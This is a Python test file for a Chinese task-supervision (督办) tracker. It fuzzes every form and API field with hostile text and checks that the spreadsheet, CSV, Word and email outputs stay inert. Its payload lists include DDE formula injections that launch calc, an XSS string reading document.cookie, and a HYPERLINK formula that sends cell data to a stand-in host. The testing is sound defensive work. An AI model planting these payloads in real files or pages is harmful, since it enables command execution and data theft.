"""Hostile text (control characters, spreadsheet formulas, markup, right-to-left marks, emoji, 10,000
characters) typed into every text field of the 督办 loop, through the forms and through the API, then every
export read back as a user's program reads it.

The properties (README "One input and output discipline"):
  * input: a text field keeps what was typed without the invisible control characters (tab and line
    breaks stay; tracker/common/plain_text.py), or refuses it with a visible message and writes nothing
    (empty after cleaning, or too long);
  * exports: ledger.xlsx, overdue.xlsx, scoreboard.xlsx (openpyxl), overdue.csv (csv module), report.docx,
    notice.docx, the 督办 documents and the 督查通报 (python-docx) all open; no Excel cell is a formula
    (data type "f") or starts with = + - @, tab or CR, no CSV cell that is not a number does;
  * emails: every HTML body in the outbox has only the templates' own tags and attributes, and each typed
    reason, comment or summary is in it as escaped text.
Text stored before this rule (typed into the database directly, control characters and all) must not
break an export either: the last test writes it straight into the tables.
"""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime, timezone
from html.parser import HTMLParser

import docx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.api.test_api import World
from tests.security.test_bad_input import browser_values, read_form
from tracker.bulletins.models import Bulletin
from tracker.common.plain_text import clean_text
from tracker.common.workdays import BEIJING
from tracker.extensions import db
from tracker.plans.models import Plan
from tracker.reminders.jobs import run_reminders
from tracker.outbox.models import Notification
from tracker.supervision.models import (ClosureRequest, ClosureState, ExtensionRequest, ExtensionState, Receipt,
                                        ReceiptState, SupervisionDocument)
from tracker.tasks.models import Task
from tracker.units.models import Unit
from tracker.updates.models import ReviewState, StatusUpdate

DAY = date(2026, 6, 30)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '"><img src=x onerror=alert(1)><script>alert(document.cookie)</script>',
    "\x01\x02\x1b[31m\x7f进展\x0b第二行\x0c",
    "\u202e\u200f右到左\u200e\u2066隔离\u2069",
    "😀🚀👩‍💻 进展顺利",
    "中" * 10_000,
    "\t=1+1",
    "\r\n=1+1",
    "#N/A",
]
PIECES = ["=", "+", "-", "@", "\t", "\r\n", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\ufffe",
          "<script>", '"><img src=x onerror=alert(1)>', "&amp;", "\u202e", "\u200f", "😀", "进展", "cmd|' /C calc'!A0",
          "HYPERLINK(", ")", " "]
# Form posts are UTF-8: no lone surrogates there (a browser cannot send one); the API gets them from JSON.
typed = st.one_of(
    st.sampled_from(ATTACKS),
    st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=12)), min_size=1, max_size=8).map("".join),
    st.builds(lambda piece, n: (piece * n)[:n], st.sampled_from(["=1+1 ", "中", "<b>", "\x01a"]),
              st.sampled_from([1999, 2001, 5001, 10_000, 10_001])),
)
json_typed = st.one_of(typed, st.lists(st.sampled_from(["\ud800", "\udfff", "进展", "=1", "\x00"]), min_size=1,
                                       max_size=4).map("".join))
HYPOTHESIS = settings(max_examples=15, deadline=None, derandomize=True, database=None,
                      suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                             HealthCheck.data_too_large])


def normal(text: str | None) -> str:
    """What a field is expected to hold: line breaks as LF, no surrounding space (the services strip)."""
    return (text or "").replace("\r\n", "\n").replace("\r", "\n").strip()


def expected(typed_text: str) -> str:
    return normal(clean_text(typed_text))


def fits(typed_text: str, limit: int) -> bool:
    cleaned = clean_text(typed_text)
    return bool(cleaned.strip()) and len(cleaned) <= limit


def check_field(stored_before, stored_after, typed_text: str, limit: int, response, must_take: bool = True) -> bool:
    """The stored value is the typed text without invisible characters, or nothing changed and the answer
    says why. True when the text was taken."""
    assert response.status_code < 500
    if stored_after is not None and normal(stored_after) == expected(typed_text):
        return True  # taken (or the same text as before)
    assert stored_after == stored_before, f"stored {stored_after[:80]!r} for {typed_text[:80]!r}"
    if must_take:
        assert not fits(typed_text, limit), \
            f"refused although it fits: {typed_text[:80]!r}: {response.get_data(as_text=True)[:300]}"
    if response.status_code == 302:  # back to the task page: the message is there
        return False
    body = response.get_data(as_text=True)
    assert "invalid-feedback" in body or "alert-danger" in body or response.is_json, body[:500]
    return False


# --- reading the exports -------------------------------------------------------------------------------

def check_workbook(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value[:40])
                    assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value[:40])
                    texts.append(cell.value)
    return texts


NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def check_csv(data: bytes) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            if not NUMBER.match(cell):
                assert not cell.startswith(FORMULA_STARTS), cell[:40]
            texts.append(cell)
    return texts


def check_word(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    parts = [paragraph.text for paragraph in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


class EmailTags(HTMLParser):
    """The tags and attributes of an email's HTML: only the templates' own may be there."""

    TAGS = {"html", "head", "meta", "body", "div", "p", "a", "table", "tr", "td", "th", "blockquote", "h3", "br"}
    ATTRIBUTES = {"charset", "style", "href", "border", "cellpadding"}

    def handle_starttag(self, tag, attrs):
        assert tag in self.TAGS, f"live markup in an email: <{tag}>"
        for name, value in attrs:
            assert name in self.ATTRIBUTES, f"live attribute in an email: {name}={value!r}"
            if name == "href":
                assert value.startswith("http://127.0.0.1:5000/"), value


def check_outbox() -> list[Notification]:
    rows = list(db.session.scalars(select(Notification).where(Notification.body_html != "")))
    for row in rows:
        EmailTags().feed(row.body_html)
        assert "\n" not in row.subject and "\r" not in row.subject
    return rows


def check_exports(client, plan_id: int, task_ids: list[int]) -> dict[str, str]:
    """Downloads every export as the coordinator: each opens and arms nothing. Their text, by name."""
    found = {}
    for url in (f"/plans/{plan_id}/ledger.xlsx", "/overdue.xlsx", "/units/scoreboard.xlsx",
                f"/units/scoreboard.xlsx?plan_id={plan_id}"):
        response = client.get(url)
        assert response.status_code == 200, url
        found[url] = "\n".join(check_workbook(response.data))
    response = client.get("/overdue.csv")
    assert response.status_code == 200
    found["/overdue.csv"] = "\n".join(check_csv(response.data))
    urls = [f"/plans/{plan_id}/report.docx", f"/plans/{plan_id}/report.docx?period=2026-05"]
    for task_id in task_ids:  # the old 督办通知单 button opens the task's registered document (below) or the issue page
        assert client.get(f"/tasks/{task_id}/notice.docx").status_code in (200, 302)
    urls += [f"/documents/{document_id}.docx" for document_id in db.session.scalars(select(SupervisionDocument.id))]
    urls += [f"/bulletins/{bulletin_id}.docx" for bulletin_id in db.session.scalars(select(Bulletin.id))]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        found[url] = check_word(response.data)
    return found


# --- the world -----------------------------------------------------------------------------------------

def _task(number: str) -> Task:
    return db.session.scalar(select(Task).where(Task.number == number))


def _unit(short_name: str) -> Unit:
    return db.session.scalar(select(Unit).where(Unit.short_name == short_name))


@pytest.fixture
def loop_world(seeded, on_date):
    """The seeded plan on 2026-06-30 with the ladder's documents issued (督办〔2026〕2号 to 区科委 for task 12)
    and a drafted 督查通报 of June."""
    on_date(DAY)
    run_reminders(datetime(2026, 6, 30, 9, 5, tzinfo=BEIJING))
    db.session.commit()
    return {"plan_id": db.session.scalar(select(Plan.id).order_by(Plan.id)), "task_id": _task("12").id,
            "reassigned_id": _task("16").id, "unit_id": _unit("区科委").id,
            "unit_ids": [_unit(name).id for name in ("区科委", "区经委")]}


def post_form(client, page_url: str, post_url: str, changes: dict, button: str | None = None):
    """Posts the form on ``page_url`` that goes to ``post_url`` as a browser would, with ``changes``."""
    page = client.get(page_url)
    assert page.status_code == 200, page_url
    values = browser_values(read_form(page.text, page_url, post_url))
    values.update(changes)
    if button:
        values[button] = "1"
    token = re.search(r'name="csrf_token" (?:type="hidden" )?value="([^"]+)"', page.text).group(1)
    return client.post(post_url, data={**values, "csrf_token": token})


def login(app, name: str):
    from tests.conftest import Browser

    return Browser(app.test_client()).login(name).client


def fresh(model, row_id):
    db.session.remove()
    return db.session.get(model, row_id)


def _reopen_document(task_id: int) -> SupervisionDocument:
    """The 督办 document of the task, unanswered again (each example answers it once)."""
    document = db.session.scalar(select(SupervisionDocument).where(SupervisionDocument.task_id == task_id))
    db.session.execute(update(SupervisionDocument).where(SupervisionDocument.id == document.id)
                       .values(replied_at=None, replied_by_id=None, reply_text=""))
    db.session.commit()
    return document


def _bulletin_id(coordinator) -> int:
    bulletin_id = db.session.scalar(select(Bulletin.id))
    if bulletin_id is None:
        response = post_form(coordinator, "/bulletins", "/bulletins", {"month": "2026-06"})
        assert response.status_code == 302
        bulletin_id = db.session.scalar(select(Bulletin.id))
    return bulletin_id


# --- through the forms ---------------------------------------------------------------------------------

def type_into_every_form(app, world, text: str) -> None:
    coordinator, kejiwei = login(app, "coordinator"), login(app, "kejiwei")
    task_id, unit_id = world["task_id"], world["unit_id"]
    task_page = f"/tasks/{task_id}"

    # 任务名称 (the coordinator's task form)
    before = fresh(Task, task_id).title
    response = post_form(coordinator, f"/tasks/{task_id}/edit", f"/tasks/{task_id}/edit", {"title": text})
    check_field(before, fresh(Task, task_id).title, text, 200, response)

    # 单位简称 (may clash with another unit's: then refused, nothing written)
    before = fresh(Unit, unit_id).short_name
    response = post_form(coordinator, f"/units/{unit_id}/edit", f"/units/{unit_id}/edit", {"short_name": text})
    check_field(before, fresh(Unit, unit_id).short_name, text, 60, response, must_take=False)

    # 工作进展, 存在问题, 下一步计划: a new report, or the resubmission of the returned one
    returned = world.get("returned")  # the report this test returned last: resubmitted now
    url = f"/updates/{returned}/resubmit" if returned else f"/tasks/{task_id}/updates/new"
    newest = db.session.scalar(select(StatusUpdate.id).order_by(StatusUpdate.id.desc()))
    response = post_form(kejiwei, url, url, {"progress_text": text, "problems": text, "next_steps": text,
                                             "percent": "40"})
    filed = db.session.scalar(select(StatusUpdate).where(StatusUpdate.id > newest))
    check_field(None, filed.progress_text if filed else None, text, 5000, response)
    if filed is not None:
        assert normal(filed.problems) == normal(filed.next_steps) == expected(text)
        # 退回 with the text as the review comment (a return needs one: else a plain reason)
        response = post_form(coordinator, "/reviews", f"/updates/{filed.id}/review",
                             {"comment": text, "version": str(filed.version)}, "reject")
        if not check_field("", fresh(StatusUpdate, filed.id).review_comment, text, 5000, response):
            post_form(coordinator, "/reviews", f"/updates/{filed.id}/review",
                      {"comment": "请补充", "version": str(filed.version)}, "reject")
        assert fresh(StatusUpdate, filed.id).review_state == ReviewState.returned
        world["returned"] = filed.id

    # 延期理由, then 不予批准 with the text as the comment
    newest = db.session.scalar(select(ExtensionRequest.id).order_by(ExtensionRequest.id.desc())) or 0
    url = f"/tasks/{task_id}/extension/new"
    response = post_form(kejiwei, url, url, {"requested_due_on": "2027-03-31", "reason": text})
    extension = db.session.scalar(select(ExtensionRequest).where(ExtensionRequest.id > newest))
    check_field(None, extension.reason if extension else None, text, 5000, response)
    if extension is not None:
        decide = f"/extensions/{extension.id}/decide"
        response = post_form(coordinator, task_page, decide, {"comment": text}, "reject")
        if not check_field(None, fresh(ExtensionRequest, extension.id).decision_comment or None, text, 5000,
                           response):
            post_form(coordinator, task_page, decide, {"comment": "材料不足"}, "reject")
        assert fresh(ExtensionRequest, extension.id).state == ExtensionState.rejected

    # 办结报告, then 退回 with the text as the reason
    newest = db.session.scalar(select(ClosureRequest.id).order_by(ClosureRequest.id.desc())) or 0
    url = f"/tasks/{task_id}/closure/new"
    response = post_form(kejiwei, url, url, {"summary": text})
    closure = db.session.scalar(select(ClosureRequest).where(ClosureRequest.id > newest))
    check_field(None, closure.summary if closure else None, text, 10000, response)
    if closure is not None:
        decide = f"/closures/{closure.id}/decide"
        response = post_form(coordinator, task_page, decide, {"comment": text}, "reject")
        if not check_field(None, fresh(ClosureRequest, closure.id).decision_comment or None, text, 5000, response):
            post_form(coordinator, task_page, decide, {"comment": "缺少验收材料"}, "reject")
        assert fresh(ClosureRequest, closure.id).state == ClosureState.returned

    # 退回交办 with the text as the reason (task 16 re-assigned to 区科委 first)
    reassigned = world["reassigned_id"]
    response = post_form(coordinator, f"/tasks/{reassigned}", f"/tasks/{reassigned}/reassign",
                         {"lead_unit_id": str(unit_id)})
    assert response.status_code == 302
    receipt = db.session.scalar(select(Receipt).where(Receipt.task_id == reassigned, Receipt.unit_id == unit_id,
                                                      Receipt.state == ReceiptState.pending))
    sign = f"/receipts/{receipt.id}/sign"
    response = post_form(kejiwei, f"/tasks/{reassigned}", sign, {"reason": text}, "refuse")
    if not check_field(None, fresh(Receipt, receipt.id).refusal_reason or None, text, 2000, response):
        post_form(kejiwei, f"/tasks/{reassigned}", sign, {"reason": "不属于本单位职责"}, "refuse")
    assert fresh(Receipt, receipt.id).state == ReceiptState.refused

    # 反馈 to the 督办 document
    document = _reopen_document(task_id)
    response = post_form(kejiwei, task_page, f"/documents/{document.id}/reply", {"text": text})
    check_field("", fresh(SupervisionDocument, document.id).reply_text, text, 10000, response)

    # 督查通报: its title and text
    bulletin_id = _bulletin_id(coordinator)
    before = fresh(Bulletin, bulletin_id).body
    page = f"/bulletins/{bulletin_id}"
    response = post_form(coordinator, page, f"/bulletins/{bulletin_id}/edit", {"body": text, "title": text[:200]})
    check_field(before, fresh(Bulletin, bulletin_id).body, text, 50_000, response, must_take=False)


def check_every_output(app, world, text: str) -> None:
    coordinator = login(app, "coordinator")
    found = check_exports(coordinator, world["plan_id"], [world["task_id"], _task("3").id])
    title = fresh(Task, world["task_id"]).title  # in the ledger as typed, neutralised
    assert (("'" + title) if title.startswith(FORMULA_STARTS) else title) in found[f"/plans/{world['plan_id']}/ledger.xlsx"]
    rows = check_outbox()
    # Each typed reason, comment and summary is in its email as escaped text.
    for model, column, kind in ((ExtensionRequest, "reason", "extension_requested"),
                                (ExtensionRequest, "decision_comment", "extension_decided"),
                                (ClosureRequest, "summary", "closure_requested"),
                                (ClosureRequest, "decision_comment", "closure_returned"),
                                (Receipt, "refusal_reason", "receipt_refused")):
        values = [value for value in db.session.scalars(select(getattr(model, column))) if value]
        bodies = "\n".join(row.body_html for row in rows if row.kind == kind)
        for value in values:
            assert str(escape(value)) in bodies, (kind, value[:60])


@HYPOTHESIS
@given(text=typed)
@example(text=ATTACKS[0]).via("OWASP: HYPERLINK formula")
@example(text=ATTACKS[1]).via("OWASP: DDE through +")
@example(text=ATTACKS[2]).via("OWASP: DDE through -")
@example(text=ATTACKS[3]).via("OWASP: DDE through @")
@example(text=ATTACKS[4]).via("markup")
@example(text=ATTACKS[5]).via("control characters")
@example(text=ATTACKS[6]).via("RTL marks")
@example(text=ATTACKS[7]).via("emoji")
@example(text=ATTACKS[8]).via("10,000 characters")
@example(text=ATTACKS[9]).via("tab before a formula")
@example(text=ATTACKS[10]).via("CR before a formula")
@example(text=ATTACKS[11]).via("an error value")
def test_hostile_text_through_the_forms(app, loop_world, text):
    type_into_every_form(app, loop_world, text)
    check_every_output(app, loop_world, text)


# --- through the API -----------------------------------------------------------------------------------

def type_into_the_api(world: World, ids: dict, text: str) -> None:
    task_id, unit_id = ids["task_id"], ids["unit_id"]

    def call(login_name, method, url, body):
        response = world.call(login_name, method, url, json=body)
        assert response.status_code < 500, response.get_data(as_text=True)[:300]
        return response

    task = fresh(Task, task_id)
    before, version = task.title, task.version
    response = call("coordinator", "PATCH", f"/api/v1/tasks/{task_id}", {"version": version, "title": text})
    check_field(before, fresh(Task, task_id).title, text, 200, response)

    returned = ids.get("returned")  # the report this test returned last: resubmitted now
    newest = db.session.scalar(select(StatusUpdate.id).order_by(StatusUpdate.id.desc()))
    body = {"period": "2026-06", "progress_text": text, "problems": text, "next_steps": text, "percent": 40}
    if returned:
        body["resubmission_of_id"] = returned
    response = call("kejiwei", "POST", f"/api/v1/tasks/{task_id}/updates", body)
    filed = db.session.scalar(select(StatusUpdate).where(StatusUpdate.id > newest))
    check_field(None, filed.progress_text if filed else None, text, 20000, response)
    if filed is not None:
        assert normal(filed.problems) == normal(filed.next_steps) == expected(text)
        review = f"/api/v1/updates/{filed.id}/review"
        response = call("coordinator", "POST", review, {"decision": "return", "comment": text,
                                                        "version": filed.version})
        if not check_field("", fresh(StatusUpdate, filed.id).review_comment, text, 5000, response):
            call("coordinator", "POST", review, {"decision": "return", "comment": "请补充", "version": filed.version})
        assert fresh(StatusUpdate, filed.id).review_state == ReviewState.returned
        ids["returned"] = filed.id

    newest = db.session.scalar(select(ExtensionRequest.id).order_by(ExtensionRequest.id.desc())) or 0
    response = call("kejiwei", "POST", f"/api/v1/tasks/{task_id}/extensions",
                    {"requested_due_on": "2027-03-31", "reason": text})
    extension = db.session.scalar(select(ExtensionRequest).where(ExtensionRequest.id > newest))
    check_field(None, extension.reason if extension else None, text, 5000, response)
    if extension is not None:
        decision = f"/api/v1/extensions/{extension.id}/decision"
        response = call("coordinator", "POST", decision, {"approve": False, "comment": text})
        if not check_field(None, fresh(ExtensionRequest, extension.id).decision_comment or None, text, 5000,
                           response):
            call("coordinator", "POST", decision, {"approve": False, "comment": "材料不足"})

    newest = db.session.scalar(select(ClosureRequest.id).order_by(ClosureRequest.id.desc())) or 0
    response = call("kejiwei", "POST", f"/api/v1/tasks/{task_id}/closures", {"summary": text})
    closure = db.session.scalar(select(ClosureRequest).where(ClosureRequest.id > newest))
    check_field(None, closure.summary if closure else None, text, 10000, response)
    if closure is not None:
        decision = f"/api/v1/closures/{closure.id}/decision"
        response = call("coordinator", "POST", decision, {"verify": False, "comment": text})
        if not check_field(None, fresh(ClosureRequest, closure.id).decision_comment or None, text, 5000, response):
            call("coordinator", "POST", decision, {"verify": False, "comment": "缺少验收材料"})

    reassigned = ids["reassigned_id"]
    call("coordinator", "POST", f"/api/v1/tasks/{reassigned}/reassign", {"lead_unit_id": unit_id})
    receipt = db.session.scalar(select(Receipt).where(Receipt.task_id == reassigned, Receipt.unit_id == unit_id,
                                                      Receipt.state == ReceiptState.pending))
    sign = f"/api/v1/receipts/{receipt.id}/sign"
    response = call("kejiwei", "POST", sign, {"decision": "refuse", "reason": text})
    if not check_field(None, fresh(Receipt, receipt.id).refusal_reason or None, text, 2000, response):
        call("kejiwei", "POST", sign, {"decision": "refuse", "reason": "不属于本单位职责"})

    document = _reopen_document(task_id)
    response = call("kejiwei", "POST", f"/api/v1/documents/{document.id}/reply", {"text": text})
    check_field("", fresh(SupervisionDocument, document.id).reply_text, text, 10000, response)


@HYPOTHESIS
@given(text=json_typed)
@example(text=ATTACKS[0]).via("OWASP: HYPERLINK formula")
@example(text=ATTACKS[1]).via("OWASP: DDE through +")
@example(text=ATTACKS[2]).via("OWASP: DDE through -")
@example(text=ATTACKS[3]).via("OWASP: DDE through @")
@example(text=ATTACKS[4]).via("markup")
@example(text=ATTACKS[5]).via("control characters")
@example(text=ATTACKS[6]).via("RTL marks")
@example(text=ATTACKS[8]).via("10,000 characters")
@example(text="\ud800进展\x00").via("a lone surrogate and NUL")
def test_hostile_text_through_the_api(app, loop_world, client, text):
    api = loop_world.setdefault("api", World(client))  # one token per login for all examples
    # What the server reads: JSON joins two escaped surrogates that form a pair into one character.
    type_into_the_api(api, loop_world, json.loads(json.dumps(text)))
    check_every_output(app, loop_world, text)


# --- stored before the rule ------------------------------------------------------------------------------

STORED = "\x01\x02\x1b[31m\x7f" + ATTACKS[0] + "\x0b\ufffe" + ATTACKS[4]


def test_text_stored_before_the_rule_breaks_no_export(app, loop_world):
    """Control characters, formulas and markup written straight into the tables (text kept from before this
    version, or typed into the database by hand): every export still opens and arms nothing."""
    coordinator = login(app, "coordinator")
    _bulletin_id(coordinator)
    task_id = loop_world["task_id"]
    db.session.execute(update(Task).values(title=STORED[:150], text=STORED))
    db.session.execute(update(Plan).values(title="=1+1" + STORED[:100]))
    db.session.execute(update(Unit).where(Unit.id.in_(loop_world["unit_ids"]))
                       .values(short_name=db.func.substr("=1+1\x01" + Unit.short_name, 1, 60)))
    db.session.execute(update(StatusUpdate).values(progress_text=STORED, problems="@SUM(1)\x02", next_steps="-1+1\x7f"))
    db.session.execute(update(SupervisionDocument).values(reply_text=STORED, replied_at=datetime(2026, 6, 30, 3, tzinfo=timezone.utc)))
    db.session.execute(update(Bulletin).values(title="+" + STORED[:100], body=STORED))
    db.session.commit()
    found = check_exports(coordinator, loop_world["plan_id"], [task_id, _task("3").id])
    # What was typed is there, neutralised and without the control characters.
    for url in ("/units/scoreboard.xlsx", f"/units/scoreboard.xlsx?plan_id={loop_world['plan_id']}"):
        assert "'=1+1区科委" in found[url].split("\n"), url  # the unit short name, inert
    assert "'=1+1[31m=HYPERLINK(" in found[f"/plans/{loop_world['plan_id']}/ledger.xlsx"]  # the plan title
    assert any(cell.startswith("'=1+1") for cell in found["/overdue.csv"].split("\n"))
    report = found[f"/plans/{loop_world['plan_id']}/report.docx"]
    assert '=HYPERLINK("http://x.example/?"&A1,"点击查看")' in report and "\x01" not in report
    # Emails rendered from the same rows: the reminders' scan of the next days renders titles and unit names.
    run_reminders(datetime(2026, 7, 1, 9, 5, tzinfo=BEIJING))
    db.session.commit()
    assert check_outbox()
    assert all("\x01" not in row.body_html and "\x1b" not in row.body_text for row in check_outbox())


def test_numbers_and_dates_stay_numbers_and_dates(app, loop_world):
    """Only text is neutralised: a negative number is a number, a date a date, in the cells of the ledger."""
    from decimal import Decimal

    from tracker.common.export_text import cell_value, csv_row

    assert [cell_value(value) for value in (-3, 2.5, Decimal("-1.5"), DAY, None, True)] == \
        [-3, 2.5, Decimal("-1.5"), DAY, None, True]
    assert csv_row(["-3", "=1+1", "@x", "+1", "\t=1", "a=b", ""]) == ["'-3", "'=1+1", "'@x", "'+1", "'\t=1", "a=b", ""]
    response = login(app, "coordinator").get(f"/plans/{loop_world['plan_id']}/ledger.xlsx")
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=3, values_only=True))
    header, data = rows[0], rows[1:]
    due, progress = header.index("原定时限"), header.index("进度（%）")
    assert data and all(isinstance(row[due], datetime) for row in data if row[due] is not None)
    assert all(isinstance(row[progress], int) for row in data)
